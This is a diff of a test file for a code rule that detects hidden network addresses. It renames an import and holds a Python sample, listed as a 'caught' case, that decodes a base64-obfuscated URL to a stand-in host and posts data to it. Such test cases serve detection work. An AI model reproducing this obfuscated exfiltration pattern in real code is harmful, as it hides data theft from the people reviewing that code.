@@ -1,7 +1,7 @@
 import { describeCodeRule, js, py, sh, text } from '../../testing/code-rule-cases.ts';
-import { revealedAddress } from './revealed-address.chain.ts';
+import { revealedAddress } from './revealed-address.rule.ts';
 
-describeCodeRule(revealedAddress.rule, {
+describeCodeRule(revealedAddress, {
   caught: [
     py(
       'import base64, requests\nu = base64.b64decode("aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZC9jb2xsZWN0").decode()\nrequests.post(u, data="x")',
